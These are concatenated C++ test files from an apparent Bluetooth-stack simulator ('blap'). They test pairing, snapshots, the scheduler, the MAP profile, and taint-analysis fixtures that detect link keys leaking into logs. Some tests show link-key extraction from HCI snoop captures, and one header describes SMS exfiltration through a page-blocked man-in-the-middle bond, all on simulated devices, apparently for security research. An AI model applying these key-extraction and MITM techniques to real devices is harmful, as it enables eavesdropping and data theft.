  ASSERT_FALSE(c->host().popup_history().empty());
  const auto& pm = m->host().popup_history().front();
  const auto& pc = c->host().popup_history().front();
  ASSERT_TRUE(pm.numeric_value.has_value());
  ASSERT_TRUE(pc.numeric_value.has_value());
  EXPECT_EQ(*pm.numeric_value, *pc.numeric_value);
  EXPECT_LT(*pm.numeric_value, 1'000'000u);
}

TEST_F(PairingIntegration, BondedReconnectSkipsPairing) {
  ASSERT_EQ(pair(*m, *c), hci::Status::kSuccess);
  m->host().disconnect(c->address());
  sim->run_for(2 * kSecond);
  ASSERT_FALSE(m->host().has_acl(c->address()));

  const std::size_t pairings_before = m->host().pairing_events().size();
  EXPECT_EQ(pair(*m, *c), hci::Status::kSuccess);
  // No Simple_Pairing_Complete the second time: LMP auth with the stored key.
  EXPECT_EQ(m->host().pairing_events().size(), pairings_before);
}

TEST_F(PairingIntegration, RejectingUserFailsPairing) {
  struct Rejector : host::UserAgent {
    bool on_pairing_popup(const BdAddr&, std::optional<std::uint32_t>) override {
      return false;
    }
  } rejector;
  c->host().set_user_agent(&rejector);
  EXPECT_NE(pair(*m, *c), hci::Status::kSuccess);
  EXPECT_FALSE(m->host().security().is_bonded(c->address()));
}

TEST_F(PairingIntegration, PageTimeoutWhenPeerOffline) {
  c->set_radio_enabled(false);
  EXPECT_EQ(pair(*m, *c), hci::Status::kPageTimeout);
}

TEST_F(PairingIntegration, SnoopRecordsLinkKeyDuringPairing) {
  m->host().enable_snoop(true);
  ASSERT_EQ(pair(*m, *c), hci::Status::kSuccess);
  // The fresh key crossed M's HCI in a Link_Key_Notification.
  const auto keys = extract_link_keys(m->host().snoop());
  ASSERT_FALSE(keys.empty());
  EXPECT_EQ(keys.back().key, *m->host().security().link_key_for(c->address()));
}

TEST_F(PairingIntegration, BondedReconnectLogsKeyInRequestReply) {
  ASSERT_EQ(pair(*m, *c), hci::Status::kSuccess);
  m->host().disconnect(c->address());
  sim->run_for(2 * kSecond);

  m->host().enable_snoop(true);
  ASSERT_EQ(pair(*m, *c), hci::Status::kSuccess);
  const auto key = extract_link_key_for(m->host().snoop(), c->address());
  ASSERT_TRUE(key.has_value());
  EXPECT_EQ(key->source, KeySource::kLinkKeyRequestReply);
  EXPECT_EQ(key->key, *m->host().security().link_key_for(c->address()));
}

TEST_F(PairingIntegration, IdleAclIsDroppedByHost) {
  bool connected = false;
  m->host().connect_only(c->address(), [&](hci::Status s) {
    connected = s == hci::Status::kSuccess;
  });
  sim->run_for(3 * kSecond);
  ASSERT_TRUE(connected);
  ASSERT_TRUE(m->host().has_acl(c->address()));
  // No channels, no pending ops: the idle policy kills the link.
  sim->run_for(m->host().config().acl_idle_timeout + 5 * kSecond);
  EXPECT_FALSE(m->host().has_acl(c->address()));
}

TEST_F(PairingIntegration, PanConnectRequiresAndTriggersAuthentication) {
  bool pan_ok = false;
  bool done = false;
  m->host().connect_pan(c->address(), [&](bool ok) {
    pan_ok = ok;
    done = true;
  });
  sim->run_for(20 * kSecond);
  ASSERT_TRUE(done);
  EXPECT_TRUE(pan_ok);
  EXPECT_TRUE(c->host().pan().server_session_active());
  EXPECT_TRUE(m->host().security().is_bonded(c->address()));
}

TEST_F(PairingIntegration, EchoRoundTripWorks) {
  ASSERT_EQ(pair(*m, *c), hci::Status::kSuccess);
  bool echoed = false;
  m->host().send_echo(c->address(), [&] { echoed = true; });
  sim->run_for(kSecond);
  EXPECT_TRUE(echoed);
}

}  // namespace
}  // namespace blap::core
