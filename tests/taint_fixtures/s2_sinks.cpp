// s2_sinks — one statement per non-log sink kind.
//
//   snapshot        StateWriter method with tainted argument
//   serializer      `out += tainted` in a to_*-named function
//   record-builder  make_event(<key-bearing event>, ...) in a tests/ path
//                   (fires regardless of taint: corpus builders derive key
//                   bytes from a PRNG, which dataflow alone cannot see)
//
// save_key_section shows the snapshot sink declassified into a site.
struct LinkKey {
  unsigned char bytes[16];
};

struct Bond {
  LinkKey link_key;
  unsigned int handle;
};

const char* hex(const LinkKey& key);

void save_bond(StateWriter& w, const Bond& bond) {
  w.u32(bond.handle);
  w.fixed(bond.link_key);  // EXPECT-S2
}

void save_key_section(StateWriter& w, const Bond& bond) {
  w.u32(bond.handle);
  // blap-taint: declassified — fixture: length-framed key section
  w.fixed(bond.link_key);
}

void to_json(std::string& out, const Bond& bond) {
  out += "{\"handle\": ";
  out += std::to_string(bond.handle);
  out += hex(bond.link_key);  // EXPECT-S2
}

Bytes key_record(const Bond& bond) {
  ByteWriter w;
  w.append(bond.link_key.bytes, 16);
  return make_event(ev::kReturnLinkKeys, w.data());  // EXPECT-S2
}
