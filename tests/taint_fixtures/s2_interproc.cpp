// s2_interproc — cross-function secret flow.
//
// Exercises the two interprocedural edges: call *returns* (current_key's
// declared return type names key material, so every call site is tainted)
// and call *arguments* (handoff passes tainted bytes into emit_payload,
// which taints the callee's parameter and trips the obs sink inside a
// function that never mentions a secret type itself). The declassified
// marker on emit_size turns that sink into a whitelist site, not a finding.
struct LinkKey {
  unsigned char bytes[16];
};

struct BondStore {
  LinkKey master;
};

LinkKey current_key(const BondStore& store) {
  return store.master;
}

void emit_payload(Tracer& trace, const Bytes& payload) {
  trace.instant("handoff", payload);  // EXPECT-S2
}

void handoff(Tracer& trace, const BondStore& store) {
  LinkKey k = current_key(store);
  emit_payload(trace, k.bytes);
}

void emit_size(Tracer& trace, const BondStore& store) {
  // blap-taint: declassified — fixture: intentional observation point
  trace.instant("key", current_key(store));
}
