// d6_lifetime — scheduler-callback escape analysis.
//
//   arm_raw     captures a raw Device* -> finding
//   arm_handle  captures the generation-checked handle and re-validates via
//               resolve() + nullptr check at fire time -> proven site
//   arm_waived  raw capture under a lifetime-ok marker -> suppressed
//
// test_taint asserts exactly one finding (the marked line) and exactly one
// proven lifetime site for this fixture.
struct Device {
  void tick();
};

void arm_raw(Scheduler& scheduler, Device* dev) {
  scheduler.schedule_in(5, [dev] {  // EXPECT-D6
    dev->tick();
  });
}

void arm_handle(Scheduler& scheduler, Registry& registry, EndpointHandle handle) {
  scheduler.schedule_in(5, [handle, &registry] {
    Device* live = registry.resolve(handle);
    if (live == nullptr) return;
    live->tick();
  });
}

void arm_waived(Scheduler& scheduler, Device* dev) {
  // blap-taint: lifetime-ok — fixture: dev outlives the scheduler by construction
  scheduler.schedule_in(5, [dev] { dev->tick(); });
}
