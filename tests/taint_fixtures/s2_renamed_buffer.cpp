// s2_renamed_buffer — the flow S1 provably cannot see.
//
// blap-lint's S1 is a token scan: it fires when an identifier *naming* key
// material (link_key, pin_code, ...) appears inside a log macro. Renaming
// the buffer through a local severs that match — `staged` names nothing —
// while the bytes still reach the log. The S2 dataflow pass follows
// record.link_key -> staged -> hex(staged) -> BLAP_INFO regardless of the
// name. test_taint runs blap-lint over this file and asserts S1 stays
// silent, then asserts S2 fires on exactly the marked line.
struct LinkKey {
  unsigned char bytes[16];
};

struct BondRecord {
  LinkKey link_key;
  int uses;
};

const char* hex(const LinkKey& key);

void log_bond(const BondRecord& record) {
  auto staged = record.link_key;
  BLAP_INFO("sec", "bond key = %s", hex(staged));  // EXPECT-S2
}

// Negative: derived non-secret state may be logged freely.
void log_bond_uses(const BondRecord& record) {
  BLAP_INFO("sec", "bond uses = %d", record.uses);
}
