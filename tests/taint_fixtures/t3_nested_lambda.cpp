// t3_nested_lambda — lambdas nested inside scheduler-callback lambdas.
//
// The outer lambda is the model citizen: it captures the handle and
// re-validates before use (a proven site). The *inner* schedule_in then
// re-captures the freshly resolved raw pointer — valid at outer fire time,
// unvalidated at inner fire time — and D6 must still see through the
// nesting and flag it.
struct Device {
  void tick();
};

void chain(Scheduler& scheduler, Registry& registry, EndpointHandle handle) {
  scheduler.schedule_in(5, [handle, &registry, &scheduler] {
    Device* live = registry.resolve(handle);
    if (live == nullptr) return;
    scheduler.schedule_in(5, [live] {  // EXPECT-D6
      live->tick();
    });
  });
}
