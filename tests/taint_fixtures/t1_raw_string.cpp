// t1_raw_string — raw string literals are content, not code.
//
// The R"(...)" block below spells out a log sink and a snapshot sink
// character-for-character; the lexer must swallow the whole literal
// (including the embedded quotes) so neither phantom sink fires. The real
// sink after it proves the lexer resynchronized correctly.
struct LinkKey {
  unsigned char bytes[16];
};

const char* hex(const LinkKey& key);

const char* usage_text() {
  return R"(
    examples that must never be scanned as code:
      BLAP_INFO("sec", "%s", hex(link_key));
      w.fixed(bond.link_key);
      scheduler.schedule_in(5, [dev] { dev->tick(); });
  )";
}

void real_leak(const LinkKey& key) {
  BLAP_INFO("sec", "%s", hex(key));  // EXPECT-S2
}
