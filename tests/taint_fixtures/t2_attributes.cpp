// t2_attributes — [[...]] attributes in signatures and declarations.
//
// Attribute brackets must not derail function-definition recognition,
// parameter parsing (the secret seed sits behind [[maybe_unused]]), or
// local-declaration parsing. The marked line only fires if all three
// survived.
struct LinkKey {
  unsigned char bytes[16];
};

[[nodiscard]] LinkKey make_key();

const char* hex(const LinkKey& key);

[[nodiscard]] int answer() {
  return 42;
}

void report([[maybe_unused]] const LinkKey& key, int verbosity) {
  [[maybe_unused]] auto copy = key;
  if (verbosity > 0) {
    BLAP_INFO("sec", "%s", hex(copy));  // EXPECT-S2
  }
}
