// t4_macro_span — backslash-continued macros and multi-line statements.
//
// The macro definition spells a do/while body at file scope: it must not be
// mistaken for a function definition, and its writer calls must not be
// scanned as sinks (they have no enclosing function). Inside real
// functions, a sink call split across lines must still report on the sink
// token's own line, and a declassification marker must bubble across the
// whole multi-line statement.
struct LinkKey {
  unsigned char bytes[16];
};

struct Bond {
  LinkKey link_key;
  unsigned int handle;
};

#define WRITE_BOND_META(w, bond)  \
  do {                            \
    (w).u32((bond).handle);       \
    (w).u32(0);                   \
  } while (0)

void save_meta(StateWriter& w, const Bond& bond) {
  WRITE_BOND_META(w, bond);
  w.fixed(bond.link_key  // EXPECT-S2
              );
}

void save_section(StateWriter& w, const Bond& bond) {
  WRITE_BOND_META(w, bond);
  // blap-taint: declassified — fixture: multi-line key-section write
  w.fixed(
      bond.link_key);
}
