// Replays the checked-in failure corpus (tests/replay_corpus/) and requires
// every bundle to reproduce its recorded verdict, metrics and warm snapshot
// exactly. This is the regression net for the whole record–replay chain:
// scenario builders, snapshot serialization, the fork engine's reseed
// contract, the fault layer's per-seed streams, and the trial-kind registry.
// If any of those drift, the corpus catches it here — regenerate with
// tools/replay/make_corpus only for DELIBERATE format or behavior changes.
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <vector>

#include "snapshot/replay.hpp"

namespace blap::snapshot {
namespace {

std::vector<std::string> corpus_files() {
  std::vector<std::string> files;
  const std::filesystem::path root = BLAP_REPLAY_CORPUS_DIR;
  for (const auto& entry : std::filesystem::recursive_directory_iterator(root)) {
    if (entry.is_regular_file() && entry.path().extension() == ".blapreplay")
      files.push_back(entry.path().string());
  }
  std::sort(files.begin(), files.end());
  return files;
}

TEST(ReplayCorpus, HasTheExpectedBundles) {
  const auto files = corpus_files();
  ASSERT_GE(files.size(), 3u) << "corpus went missing — regenerate with make_corpus";
}

TEST(ReplayCorpus, EveryBundleReproducesExactly) {
  for (const std::string& path : corpus_files()) {
    SCOPED_TRACE(path);
    std::string why;
    const auto bundle = ReplayBundle::load_file(path, &why);
    ASSERT_TRUE(bundle.has_value()) << why;
    ASSERT_TRUE(known_trial_kind(bundle->trial_kind)) << bundle->trial_kind;

    const ReplayOutcome outcome = replay_bundle(*bundle, /*want_trace=*/false);
    ASSERT_TRUE(outcome.executed) << outcome.error;
    EXPECT_TRUE(outcome.verdict_matches)
        << "recorded success=" << bundle->expected_success
        << " virtual_end=" << bundle->expected_virtual_end
        << " | re-run success=" << outcome.result.success
        << " virtual_end=" << outcome.result.virtual_end;
    EXPECT_TRUE(outcome.metrics_match);
    EXPECT_TRUE(outcome.snapshot_matches)
        << "scenario builders or snapshot format drifted since recording";
    EXPECT_TRUE(outcome.reproduced());
  }
}

// The corpus deliberately includes a lossy-channel supervision-timeout
// trial; its replay must reproduce the recorded fault metrics too.
TEST(ReplayCorpus, LossyBundleCarriesItsFaultPlan) {
  bool found = false;
  for (const std::string& path : corpus_files()) {
    if (path.find("lossy-supervision") == std::string::npos) continue;
    found = true;
    std::string why;
    const auto bundle = ReplayBundle::load_file(path, &why);
    ASSERT_TRUE(bundle.has_value()) << why;
    ASSERT_TRUE(bundle->fault_plan.has_value());
    EXPECT_GT(bundle->fault_plan->loss, 0.0);
    EXPECT_FALSE(bundle->expected_metrics_json.empty());
    EXPECT_NE(bundle->expected_metrics_json.find("controller.supervision_timeouts"),
              std::string::npos);
  }
  EXPECT_TRUE(found) << "lossy-supervision bundle missing from the corpus";
}

// The fuzz-* pins record the stack fuzz target's canonical op streams at
// their post-fix verdicts (trial kind "fuzz_stack"): each carries the exact
// input bytes and the warm bonded snapshot it forks from. The phantom-
// connection stream is the one the first coverage-guided campaign flagged —
// its presence here is the regression gate for the host's unsolicited
// Connection_Complete fix.
TEST(ReplayCorpus, FuzzPinsCarryTheirInputStreams) {
  std::size_t fuzz_bundles = 0;
  bool phantom_found = false;
  for (const std::string& path : corpus_files()) {
    if (path.find("/fuzz-") == std::string::npos) continue;
    SCOPED_TRACE(path);
    ++fuzz_bundles;
    std::string why;
    const auto bundle = ReplayBundle::load_file(path, &why);
    ASSERT_TRUE(bundle.has_value()) << why;
    EXPECT_EQ(bundle->trial_kind, "fuzz_stack");
    EXPECT_FALSE(bundle->fuzz_input.empty());
    EXPECT_FALSE(bundle->snapshot.empty());
    EXPECT_EQ(bundle->warm_setup, "bonded");
    if (path.find("fuzz-phantom-connection") != std::string::npos) phantom_found = true;
  }
  EXPECT_GE(fuzz_bundles, 4u) << "fuzz pins missing — regenerate with make_corpus";
  EXPECT_TRUE(phantom_found) << "the phantom-connection regression pin is gone";
}

}  // namespace
}  // namespace blap::snapshot
