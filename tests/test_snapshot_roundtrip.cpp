// Property test for snapshot serialization at arbitrary stop points.
//
// The serializer is only trustworthy if a capture→restore round-trip is
// invisible: a simulation that is serialized and deserialized mid-flight —
// mid-pairing, mid-ARQ-retransmission — must continue to EXACTLY the same
// future as a twin that was never touched. The test runs two identically
// built, identically seeded simulations:
//
//   * sim A runs the workload uninterrupted;
//   * sim B runs k scheduler events, takes a relaxed snapshot, immediately
//     restores it in place (a full serialize→parse→apply round-trip over
//     every component), then continues;
//
// and requires byte-identical outcomes for a sweep of k values: final
// virtual clock, pairing verdicts, the accessory's btsnoop bytes, metrics
// JSON, and a full relaxed re-capture of both end states.
#include <gtest/gtest.h>

#include "obs/obs.hpp"
#include "snapshot/scenarios.hpp"
#include "snapshot/snapshot.hpp"

namespace blap::snapshot {
namespace {

constexpr SimTime kWindow = 30 * kSecond;

struct Workload {
  double loss = 0.0;  // > 0 puts the baseband ARQ mid-retransmission
};

struct Outcome {
  bool paired = false;
  hci::Status status = hci::Status::kSuccess;
  SimTime end = 0;
  Bytes accessory_snoop;
  std::string metrics_json;
  Bytes final_state;
};

Scenario start(const Workload& w) {
  ScenarioParams params;
  params.kind = ScenarioParams::Kind::kExtraction;
  params.profile_index = 5;
  Scenario s = build_scenario(1234, params);
  s.sim->enable_observability({.tracing = false, .metrics = true});
  if (w.loss > 0.0) {
    faults::FaultPlan plan;
    plan.seed = 42;
    plan.loss = w.loss;
    s.sim->set_fault_plan(plan);
  }
  return s;
}

// `paired`/`status` are written by the pair() completion callback while the
// simulation runs inside this function, so they must come in by reference.
Outcome finish(Scenario& s, const bool& paired, const hci::Status& status) {
  s.sim->scheduler().run_until(kWindow);
  s.sim->run_until_idle();
  Outcome o;
  o.paired = paired;
  o.status = status;
  o.end = s.sim->now();
  o.accessory_snoop = s.accessory->host().snoop().serialize();
  o.metrics_json = s.sim->observer()->snapshot().to_json();
  o.final_state = Snapshot::capture_relaxed(*s.sim).bytes();
  return o;
}

/// Uninterrupted reference run.
Outcome run_straight(const Workload& w) {
  Scenario s = start(w);
  bool paired = false;
  hci::Status status = hci::Status::kSuccess;
  s.accessory->host().pair(s.target->address(), [&](hci::Status st) {
    paired = true;
    status = st;
  });
  return finish(s, paired, status);
}

/// Same run, but serialized and restored in place after k events.
Outcome run_with_roundtrip(const Workload& w, int k) {
  Scenario s = start(w);
  bool paired = false;
  hci::Status status = hci::Status::kSuccess;
  s.accessory->host().pair(s.target->address(), [&](hci::Status st) {
    paired = true;
    status = st;
  });
  for (int i = 0; i < k && !s.sim->scheduler().idle(); ++i)
    (void)s.sim->scheduler().step();

  const Snapshot mid = Snapshot::capture_relaxed(*s.sim);
  EXPECT_FALSE(mid.strict());
  std::string why;
  // Round-trip through the parser too: bytes -> Snapshot -> apply.
  const auto reparsed = Snapshot::from_bytes(mid.bytes(), &why);
  EXPECT_TRUE(reparsed.has_value()) << why;
  if (!reparsed.has_value()) return Outcome{};
  EXPECT_TRUE(reparsed->restore_in_place(*s.sim, &why)) << "k=" << k << ": " << why;

  return finish(s, paired, status);
}

void expect_same(const Outcome& a, const Outcome& b, int k) {
  EXPECT_EQ(a.paired, b.paired) << "k=" << k;
  EXPECT_EQ(a.status, b.status) << "k=" << k;
  EXPECT_EQ(a.end, b.end) << "k=" << k;
  EXPECT_EQ(a.accessory_snoop, b.accessory_snoop) << "k=" << k;
  EXPECT_EQ(a.metrics_json, b.metrics_json) << "k=" << k;
  EXPECT_EQ(a.final_state, b.final_state) << "k=" << k;
}

// Capture points sweep the whole pairing: HCI bring-up tail, paging, the
// SSP public-key exchange, authentication, encryption start, idle-out.
constexpr int kStops[] = {1, 2, 3, 5, 8, 13, 21, 40, 75, 150, 300, 600, 1200};

TEST(SnapshotRoundTrip, MidPairingCapturePointsAreInvisible) {
  const Workload clean{};
  const Outcome reference = run_straight(clean);
  ASSERT_TRUE(reference.paired);
  EXPECT_EQ(reference.status, hci::Status::kSuccess);
  for (const int k : kStops) {
    const Outcome rt = run_with_roundtrip(clean, k);
    expect_same(reference, rt, k);
  }
}

TEST(SnapshotRoundTrip, MidArqCapturePointsAreInvisible) {
  // 35 % iid loss: ARQ retransmissions and supervision timers are live at
  // most capture points.
  const Workload lossy{.loss = 0.35};
  const Outcome reference = run_straight(lossy);
  for (const int k : kStops) {
    const Outcome rt = run_with_roundtrip(lossy, k);
    expect_same(reference, rt, k);
  }
}

// The relaxed end-state capture used above must itself be deterministic:
// two identical runs serialize to identical bytes (no pointer values, no
// hash order, no wall clock anywhere in the format).
TEST(SnapshotRoundTrip, SerializationIsCanonical) {
  const Workload clean{};
  const Outcome a = run_straight(clean);
  const Outcome b = run_straight(clean);
  EXPECT_EQ(a.final_state, b.final_state);
  EXPECT_EQ(a.accessory_snoop, b.accessory_snoop);
}

}  // namespace
}  // namespace blap::snapshot
