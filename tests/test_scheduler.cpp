// Unit tests for the discrete-event scheduler that all devices run on.
#include <gtest/gtest.h>

#include <vector>

#include "common/scheduler.hpp"

namespace blap {
namespace {

TEST(Scheduler, RunsEventsInTimeOrder) {
  Scheduler sched;
  std::vector<int> order;
  sched.schedule_at(30, [&] { order.push_back(3); });
  sched.schedule_at(10, [&] { order.push_back(1); });
  sched.schedule_at(20, [&] { order.push_back(2); });
  sched.run_all();
  EXPECT_EQ(order, (std::vector<int>{1, 2, 3}));
  EXPECT_EQ(sched.now(), 30u);
}

TEST(Scheduler, TiesBreakByScheduleOrder) {
  Scheduler sched;
  std::vector<int> order;
  sched.schedule_at(10, [&] { order.push_back(1); });
  sched.schedule_at(10, [&] { order.push_back(2); });
  sched.schedule_at(10, [&] { order.push_back(3); });
  sched.run_all();
  EXPECT_EQ(order, (std::vector<int>{1, 2, 3}));
}

TEST(Scheduler, ScheduleInIsRelative) {
  Scheduler sched;
  SimTime fired_at = 0;
  sched.schedule_at(100, [&] {});
  sched.run_all();
  sched.schedule_in(50, [&] { fired_at = sched.now(); });
  sched.run_all();
  EXPECT_EQ(fired_at, 150u);
}

TEST(Scheduler, RunUntilStopsAtDeadline) {
  Scheduler sched;
  int fired = 0;
  sched.schedule_at(10, [&] { ++fired; });
  sched.schedule_at(20, [&] { ++fired; });
  sched.schedule_at(30, [&] { ++fired; });
  EXPECT_EQ(sched.run_until(20), 2u);
  EXPECT_EQ(fired, 2);
  EXPECT_EQ(sched.now(), 20u);
  EXPECT_EQ(sched.pending_events(), 1u);
}

TEST(Scheduler, RunUntilAdvancesClockToDeadlineWhenIdle) {
  Scheduler sched;
  sched.run_until(500);
  EXPECT_EQ(sched.now(), 500u);
}

TEST(Scheduler, EventsScheduledInThePastRunNow) {
  Scheduler sched;
  sched.schedule_at(100, [] {});
  sched.run_all();
  SimTime fired_at = 0;
  sched.schedule_at(10, [&] { fired_at = sched.now(); });  // in the past
  sched.run_all();
  EXPECT_EQ(fired_at, 100u);
}

TEST(Scheduler, CancelPreventsExecution) {
  Scheduler sched;
  bool fired = false;
  auto handle = sched.schedule_at(10, [&] { fired = true; });
  EXPECT_TRUE(handle.pending());
  handle.cancel();
  EXPECT_FALSE(handle.pending());
  sched.run_all();
  EXPECT_FALSE(fired);
}

TEST(Scheduler, CancelAfterFiringIsSafe) {
  Scheduler sched;
  auto handle = sched.schedule_at(10, [] {});
  sched.run_all();
  EXPECT_FALSE(handle.pending());
  handle.cancel();  // no-op
}

TEST(Scheduler, DefaultHandleIsInert) {
  EventHandle handle;
  EXPECT_FALSE(handle.pending());
  handle.cancel();
}

TEST(Scheduler, EventsCanScheduleMoreEvents) {
  Scheduler sched;
  std::vector<SimTime> fire_times;
  sched.schedule_at(10, [&] {
    fire_times.push_back(sched.now());
    sched.schedule_in(5, [&] { fire_times.push_back(sched.now()); });
  });
  sched.run_all();
  EXPECT_EQ(fire_times, (std::vector<SimTime>{10, 15}));
}

TEST(Scheduler, PendingIsFalseInsideOwnCallback) {
  Scheduler sched;
  EventHandle handle;
  bool pending_inside = true;
  handle = sched.schedule_at(10, [&] { pending_inside = handle.pending(); });
  sched.run_all();
  EXPECT_FALSE(pending_inside);
}

// Regression: schedule_at clamps past timestamps to now, and the clamped
// events must still fire in schedule order relative to events genuinely
// scheduled at `now` — the tie-break the campaign engine's determinism
// guarantee rests on.
TEST(Scheduler, ClampedPastEventsKeepScheduleOrderTiebreak) {
  Scheduler sched;
  sched.schedule_at(100, [] {});
  sched.run_all();
  ASSERT_EQ(sched.now(), 100u);

  std::vector<int> order;
  sched.schedule_at(10, [&] { order.push_back(1); });   // past: clamped to 100
  sched.schedule_at(100, [&] { order.push_back(2); });  // exactly now
  sched.schedule_at(5, [&] { order.push_back(3); });    // past: clamped to 100
  EXPECT_EQ(sched.pending_events(), 3u);
  sched.run_all();
  EXPECT_EQ(order, (std::vector<int>{1, 2, 3}));
  EXPECT_EQ(sched.now(), 100u);
}

// Regression: a cancelled event stays queued (pending_events unchanged)
// but must not execute, and must not disturb the tie-break order of its
// same-timestamp neighbours.
TEST(Scheduler, CancelPreservesQueueAndTiebreakOfNeighbours) {
  Scheduler sched;
  std::vector<int> order;
  sched.schedule_at(10, [&] { order.push_back(1); });
  auto doomed = sched.schedule_at(10, [&] { order.push_back(2); });
  sched.schedule_at(10, [&] { order.push_back(3); });
  doomed.cancel();
  EXPECT_EQ(sched.pending_events(), 3u);  // cancelled entry stays queued
  EXPECT_EQ(sched.run_until(10), 2u);     // ...but only live events execute
  EXPECT_EQ(order, (std::vector<int>{1, 3}));
  EXPECT_EQ(sched.pending_events(), 0u);
}

// Regression: cancel after fire is a no-op even when the event's internal
// slot has been reused by a newer event — the stale handle must not cancel
// (or report pending for) its successor.
TEST(Scheduler, StaleHandleCannotTouchSlotSuccessor) {
  Scheduler sched;
  bool first_fired = false;
  auto first = sched.schedule_at(10, [&] { first_fired = true; });
  sched.run_all();
  ASSERT_TRUE(first_fired);
  ASSERT_FALSE(first.pending());

  // The next event recycles the first one's slot.
  bool second_fired = false;
  auto second = sched.schedule_at(20, [&] { second_fired = true; });
  ASSERT_TRUE(second.pending());
  EXPECT_FALSE(first.pending());  // stale handle must not alias the new event
  first.cancel();                 // no-op
  EXPECT_TRUE(second.pending());
  EXPECT_EQ(sched.pending_events(), 1u);
  sched.run_all();
  EXPECT_TRUE(second_fired);
}

// Double-cancel and cancel-of-cancelled are no-ops that never unblock or
// re-kill anything scheduled later.
TEST(Scheduler, RepeatedCancelIsIdempotent) {
  Scheduler sched;
  int fired = 0;
  auto a = sched.schedule_at(10, [&] { ++fired; });
  auto b = sched.schedule_at(10, [&] { ++fired; });
  a.cancel();
  a.cancel();
  EXPECT_TRUE(b.pending());
  sched.run_all();
  EXPECT_EQ(fired, 1);
  a.cancel();  // after the queue drained: still a no-op
  EXPECT_EQ(sched.pending_events(), 0u);
}

// Storage reservation must not disturb scheduling semantics.
TEST(Scheduler, ReserveKeepsSemantics) {
  Scheduler sched;
  sched.reserve(1024);
  std::vector<int> order;
  sched.schedule_at(20, [&] { order.push_back(2); });
  sched.schedule_at(10, [&] { order.push_back(1); });
  sched.run_all();
  EXPECT_EQ(order, (std::vector<int>{1, 2}));
}

TEST(Scheduler, TimeConstants) {
  EXPECT_EQ(kSecond, 1'000'000u);
  EXPECT_EQ(kMillisecond, 1'000u);
  EXPECT_EQ(kSlot, 625u);  // one Bluetooth baseband slot
}

// --- rewind (snapshot restore) staleness audit -------------------------------
// A snapshot restore rewinds the scheduler; every EventHandle issued before
// the rewind must come out stale — pending() false, cancel() a harmless
// no-op — no matter what happens to its slot afterwards.

// Live handles captured before a rewind are stale after it.
TEST(Scheduler, RewindStalesLiveHandles) {
  Scheduler sched;
  bool fired = false;
  auto h = sched.schedule_at(50, [&] { fired = true; });
  ASSERT_TRUE(h.pending());

  sched.rewind(0, sched.next_seq());
  EXPECT_FALSE(h.pending());
  EXPECT_TRUE(sched.idle());
  h.cancel();  // must not throw, must not affect anything scheduled later

  bool after = false;
  sched.schedule_at(10, [&] { after = true; });
  sched.run_all();
  EXPECT_TRUE(after);
  EXPECT_FALSE(fired);  // the pre-rewind event is gone for good
}

// A pre-rewind handle whose slot is recycled by a post-rewind event must not
// alias it: pending() stays false and cancel() must not kill the newcomer.
TEST(Scheduler, PreRewindHandleCannotTouchSlotReuse) {
  Scheduler sched;
  auto stale = sched.schedule_at(50, [] {});
  sched.rewind(0, sched.next_seq());

  // Refill until some new event plausibly lands in the stale handle's slot.
  int fired = 0;
  std::vector<EventHandle> fresh;
  for (int i = 0; i < 8; ++i)
    fresh.push_back(sched.schedule_at(static_cast<SimTime>(10 + i), [&] { ++fired; }));

  EXPECT_FALSE(stale.pending());
  stale.cancel();  // must be a no-op even if a fresh event reused its slot
  for (const auto& h : fresh) EXPECT_TRUE(h.pending());
  sched.run_all();
  EXPECT_EQ(fired, 8);
}

// Cancelled-before-rewind handles stay safely stale too, and a rewind to a
// later (now, seq) point — what a snapshot of a long-running sim restores —
// resumes the clock exactly there.
TEST(Scheduler, RewindRestoresClockAndSequence) {
  Scheduler sched;
  auto cancelled = sched.schedule_at(10, [] {});
  cancelled.cancel();
  auto live = sched.schedule_at(20, [] {});
  ASSERT_TRUE(live.pending());

  sched.rewind(1'234'567, 99);
  EXPECT_EQ(sched.now(), 1'234'567u);
  EXPECT_EQ(sched.next_seq(), 99u);
  EXPECT_TRUE(sched.idle());
  EXPECT_FALSE(cancelled.pending());
  EXPECT_FALSE(live.pending());
  cancelled.cancel();
  live.cancel();

  // Post-rewind events schedule relative to the restored clock.
  SimTime seen = 0;
  sched.schedule_in(10, [&] { seen = sched.now(); });
  sched.run_all();
  EXPECT_EQ(seen, 1'234'577u);
}

// Handles that survive in DIFFERENT schedulers are independent: rewinding
// one scheduler must not stale another's handles (generation state is
// per-scheduler, not global).
TEST(Scheduler, RewindIsPerScheduler) {
  Scheduler a;
  Scheduler b;
  auto ha = a.schedule_at(10, [] {});
  bool b_fired = false;
  auto hb = b.schedule_at(10, [&] { b_fired = true; });

  a.rewind(0, a.next_seq());
  EXPECT_FALSE(ha.pending());
  EXPECT_TRUE(hb.pending());
  b.run_all();
  EXPECT_TRUE(b_fired);
}

}  // namespace
}  // namespace blap
