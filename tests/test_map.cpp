// Tests for the MAP profile — the third §III "sensitive data" service —
// including SMS exfiltration through a page-blocked MITM bond.
#include <gtest/gtest.h>

#include "core/page_blocking.hpp"

namespace blap::core {
namespace {

DeviceSpec spec(const std::string& name, const std::string& addr) {
  DeviceSpec s;
  s.name = name;
  s.address = *BdAddr::parse(addr);
  return s;
}

std::optional<std::vector<std::string>> read_all(Simulation& sim, Device& client,
                                                 Device& server) {
  std::optional<std::vector<std::string>> result;
  bool done = false;
  client.host().read_messages(server.address(),
                              [&](std::optional<std::vector<std::string>> r) {
                                result = std::move(r);
                                done = true;
                              });
  for (int i = 0; i < 400 && !done; ++i) sim.run_for(100 * kMillisecond);
  EXPECT_TRUE(done) << "read_messages never completed";
  return result;
}

TEST(Map, AuthenticatedPeerReadsAllMessages) {
  Simulation sim(130);
  Device& carkit = sim.add_device(spec("carkit", "00:00:00:00:00:01"));
  Device& phone = sim.add_device(spec("phone", "00:00:00:00:00:02"));
  phone.host().map().clear_messages();
  phone.host().map().add_message(1, "BODY:first");
  phone.host().map().add_message(2, "BODY:second");
  phone.host().map().add_message(7, "BODY:seventh");

  const auto messages = read_all(sim, carkit, phone);
  ASSERT_TRUE(messages.has_value());
  ASSERT_EQ(messages->size(), 3u);
  EXPECT_EQ((*messages)[0], "BODY:first");
  EXPECT_EQ((*messages)[2], "BODY:seventh");
  EXPECT_GT(phone.host().map().serves(), 3);  // list + three gets
  EXPECT_TRUE(carkit.host().security().is_bonded(phone.address()));
}

TEST(Map, EmptyStoreYieldsEmptyList) {
  Simulation sim(131);
  Device& carkit = sim.add_device(spec("carkit", "00:00:00:00:00:01"));
  Device& phone = sim.add_device(spec("phone", "00:00:00:00:00:02"));
  phone.host().map().clear_messages();
